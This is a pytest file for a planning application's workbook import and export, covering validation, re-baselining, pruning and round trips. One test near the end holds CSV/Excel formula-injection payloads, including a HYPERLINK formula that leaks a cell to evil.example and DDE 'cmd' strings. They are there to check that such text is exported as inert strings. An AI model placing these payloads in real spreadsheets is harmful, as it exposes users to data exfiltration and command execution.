"""The workbook front door on real databases: template to import, every problem at once, re-import as a
change with re-baselines, prune, and a round trip that changes nothing."""

from __future__ import annotations

from datetime import UTC, date, datetime
from pathlib import Path

import pytest
import sqlalchemy as sa
from sqlalchemy.engine import Engine
from sqlmodel import Session, col, select

from models.audit import AuditEvent
from models.ledger import decode_data
from models.plan import Action, Milestone
from models.verification import verify_database
from models.vocab import Status
from tests.workbook_helpers import column, template_rows, write_csv_folder, write_xlsx
from workbooks.plan_workbook import export_workbook, import_workbook
from workbooks.problems import ImportRejected
from workbooks.writer import write_template


def _head(engine: Engine) -> object:
    return verify_database(engine).head


def _counts(engine: Engine) -> tuple[int, ...]:
    with Session(engine) as session:
        return tuple(
            session.execute(sa.select(sa.func.count()).select_from(t)).scalar_one()
            for t in (Action, Milestone, AuditEvent)
        )


def test_the_template_imports_as_it_is(engine: Engine, tmp_path: Path) -> None:
    path = tmp_path / "plan.xlsx"
    write_template(path)
    outcome = import_workbook(engine, path, actor="secretariat@example.org")
    assert outcome.report.created and outcome.report.added["actions"] == ["EX-01"]
    with Session(engine) as session:
        action = session.exec(select(Action)).one()
    assert (action.percent, action.status, action.current_due) == (40, Status.IN_PROGRESS, date(2017, 9, 29))
    assert verify_database(engine).ok


def test_dry_run_changes_nothing(engine: Engine, tmp_path: Path) -> None:
    path = tmp_path / "plan.xlsx"
    write_template(path)
    before = _counts(engine)
    outcome = import_workbook(engine, path, actor="x", dry_run=True)
    assert outcome.dry_run and outcome.report.added["actions"] == ["EX-01"]
    assert _counts(engine) == before


def test_csv_folder_and_uk_dates(engine: Engine, tmp_path: Path) -> None:
    sheets = template_rows(tmp_path)
    sheets["Actions"][1][column(sheets["Actions"], "percent")] = "0.4"
    folder = write_csv_folder(tmp_path / "plan", sheets)
    import_workbook(engine, folder, actor="x")
    with Session(engine) as session:
        action = session.exec(select(Action)).one()
    assert (action.current_due, action.start, action.percent) == (date(2017, 9, 29), date(2017, 9, 4), 40)


def test_percent_formatted_cells_and_excel_dates(engine: Engine, tmp_path: Path) -> None:
    sheets = template_rows(tmp_path)
    actions = sheets["Actions"]
    actions[1][column(actions, "percent")] = 0.55
    actions[1][column(actions, "due")] = datetime(2017, 10, 6)
    actions[1][column(actions, "status")] = "In Progress"
    actions[1][column(actions, "rag")] = "AMBER"
    letter = "ABCDEFGHIJKLM"[column(actions, "percent")]
    path = write_xlsx(tmp_path / "p.xlsx", sheets, {("Actions", f"{letter}2"): "0%"})
    import_workbook(engine, path, actor="x")
    with Session(engine) as session:
        action = session.exec(select(Action)).one()
    assert (action.percent, action.current_due, action.rag.value if action.rag else None) == (
        55,
        date(2017, 10, 6),
        "amber",
    )


def test_every_problem_is_listed_and_nothing_changes(engine: Engine, tmp_path: Path) -> None:
    sheets = template_rows(tmp_path)
    actions, people = sheets["Actions"], sheets["People"]
    good = actions[1]
    actions.append(list(good))  # duplicate ref EX-01 on row 3
    bad = list(good)
    bad[column(actions, "ref")] = "TAP-02"
    bad[column(actions, "area")] = "NOPE"
    bad[column(actions, "owner_email")] = "ghost@example.org"
    bad[column(actions, "due")] = "2017/12/11"
    bad[column(actions, "status")] = "finished"
    bad[column(actions, "percent")] = "140"
    actions.append(bad)  # row 4
    people[1][column(people, "manager_email")] = (
        "secretariat@example.org"  # owner -> director -> owner? see below
    )
    people[3][column(people, "manager_email")] = (
        "owner@example.org"  # secretariat -> owner -> secretariat: a loop
    )
    people[2][column(people, "away_from")] = "10/10/2017"
    people[2][column(people, "away_to")] = "01/10/2017"
    path = write_xlsx(tmp_path / "bad.xlsx", sheets)
    before = _counts(engine)
    with pytest.raises(ImportRejected) as caught:
        import_workbook(engine, path, actor="x")
    found = {(p.sheet, p.row, p.column) for p in caught.value.problems}
    letters = {
        name: "ABCDEFGHIJKLM"[column(actions, name)]
        for name in ("ref", "area", "owner_email", "due", "status", "percent")
    }
    for name in ("area", "owner_email", "due", "status", "percent"):
        assert ("Actions", 4, letters[name]) in found, name
    assert ("Actions", 3, letters["ref"]) in found
    assert any(p.sheet == "People" and "loop" in p.expected for p in caught.value.problems)
    assert any(p.sheet == "People" and "on or after away_from" in p.expected for p in caught.value.problems)
    message = str(next(p for p in caught.value.problems if p.row == 4 and p.column == letters["percent"]))
    assert (
        "bad.xlsx, sheet Actions, row 4, column" in message and "'140'" in message and "0 to 100" in message
    )
    assert _counts(engine) == before


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"just some text, not a workbook", "an Excel .xlsx workbook"),
        (b"\xd0\xcf\x11\xe0" + b"\x00" * 512, "without a password"),
        (b"PK\x03\x04broken zip", "an Excel .xlsx workbook"),
    ],
)
def test_files_that_are_not_workbooks(engine: Engine, tmp_path: Path, content: bytes, expected: str) -> None:
    path = tmp_path / "plan.xlsx"
    path.write_bytes(content)
    with pytest.raises(ImportRejected, match=expected):
        import_workbook(engine, path, actor="x")


def test_missing_sheets_and_columns(engine: Engine, tmp_path: Path) -> None:
    sheets = template_rows(tmp_path)
    del sheets["Areas"]
    sheets["Actions"][0][column(sheets["Actions"], "due")] = "deadline"
    sheets["Actions"][0].append("colour")
    with pytest.raises(ImportRejected) as caught:
        import_workbook(engine, write_xlsx(tmp_path / "p.xlsx", sheets), actor="x")
    expected = {p.expected for p in caught.value.problems}
    assert "a sheet named Areas" in expected and "a column headed 'due'" in expected


def test_reimport_is_a_change_with_rebaselines(engine: Engine, tmp_path: Path) -> None:
    sheets = template_rows(tmp_path)
    import_workbook(engine, write_xlsx(tmp_path / "v1.xlsx", sheets), actor="x")
    actions = sheets["Actions"]
    actions[1][column(actions, "due")] = date(2017, 10, 27)
    actions[1][column(actions, "rebaseline_reason")] = "Auditor capacity moved to the front door"
    actions[1][column(actions, "title")] = "Monthly case audit programme, expanded"
    outcome = import_workbook(
        engine, write_xlsx(tmp_path / "v2.xlsx", sheets), actor="secretariat@example.org"
    )
    assert outcome.report.rebaselined == ["EX-01"] and outcome.report.changed["actions"] == ["EX-01"]
    with Session(engine) as session:
        action = session.exec(select(Action)).one()
        events = session.exec(
            select(AuditEvent).where(AuditEvent.ref == "EX-01").order_by(col(AuditEvent.seq))
        ).all()
    assert (action.original_due, action.current_due, action.rebaseline_count) == (
        date(2017, 9, 29),
        date(2017, 10, 27),
        1,
    )
    kinds = [e.kind for e in events]
    assert kinds == ["ActionAdded", "DueDateRebaselined", "ActionChanged"]
    rebaseline = decode_data(events[1].body)
    assert rebaseline["before"] == {"due": "2017-09-29"} and rebaseline["after"] == {"due": "2017-10-27"}
    assert rebaseline["reason"] == "Auditor capacity moved to the front door"
    change = decode_data(events[2].body)
    assert change["after"] == {"title": "Monthly case audit programme, expanded"}


def test_missing_items_are_listed_then_pruned_never_deleted(engine: Engine, tmp_path: Path) -> None:
    sheets = template_rows(tmp_path)
    second = list(sheets["Actions"][1])
    second[column(sheets["Actions"], "ref")] = "TAP-02"
    sheets["Actions"].append(second)
    import_workbook(engine, write_xlsx(tmp_path / "v1.xlsx", sheets), actor="x")
    del sheets["Actions"][2]
    kept = import_workbook(engine, write_xlsx(tmp_path / "v2.xlsx", sheets), actor="x")
    assert kept.report.missing["actions"] == ["TAP-02"] and not kept.report.cancelled
    pruned = import_workbook(engine, write_xlsx(tmp_path / "v3.xlsx", sheets), actor="x", prune=True)
    assert pruned.report.cancelled == ["TAP-02"]
    with Session(engine) as session:
        statuses = {a.ref: a.status for a in session.exec(select(Action))}
    assert statuses == {"EX-01": Status.IN_PROGRESS, "TAP-02": Status.CANCELLED}


def test_round_trip_changes_nothing(engine: Engine, tmp_path: Path) -> None:
    from flows import demo_plan

    import_workbook(engine, demo_plan.WORKBOOK, actor="x")
    head = _head(engine)
    exported = tmp_path / "export.xlsx"
    assert export_workbook(engine, exported, None) == head
    outcome = import_workbook(engine, exported, actor="x")
    assert outcome.report.changes == 0 and not outcome.report.rebaselined
    assert _head(engine) == head


FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def test_text_that_looks_like_a_formula_is_written_as_text_and_round_trips(
    engine: Engine, tmp_path: Path
) -> None:
    import openpyxl

    from models.db import unit_of_work
    from models.plan_spec import UpdateSpec
    from models.updates import apply_update

    sheets = template_rows(tmp_path)
    sheets["Actions"][1][column(sheets["Actions"], "title")] = FORMULA
    sheets["Actions"][1][column(sheets["Actions"], "notes")] = "+cmd|' /C calc'!A0"
    import_workbook(engine, write_csv_folder(tmp_path / "plan", sheets), actor="x")  # CSV: text is text
    with unit_of_work(engine) as session:
        apply_update(
            session,
            UpdateSpec(
                "EX-01",
                by="owner@example.org",
                note="@SUM(1+1)*cmd|' /C calc'!A0",
                at=datetime(2017, 9, 20, 9, tzinfo=UTC),
            ),
        )
    exported = tmp_path / "export.xlsx"
    export_workbook(engine, exported, None)
    book = openpyxl.load_workbook(exported)  # not data_only: a formula would come back as a formula
    title = book["Actions"].cell(2, column(sheets["Actions"], "title") + 1)
    assert (title.value, title.data_type) == (FORMULA, "s")
    commentary = book["Updates"].cell(2, 7)
    assert (commentary.value, commentary.data_type) == ("@SUM(1+1)*cmd|' /C calc'!A0", "s")
    assert not [c.coordinate for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]
    outcome = import_workbook(engine, exported, actor="x")
    assert outcome.report.changes == 0
    with Session(engine) as session:
        action = session.exec(select(Action)).one()
    assert (action.title, action.notes) == (FORMULA, "+cmd|' /C calc'!A0")
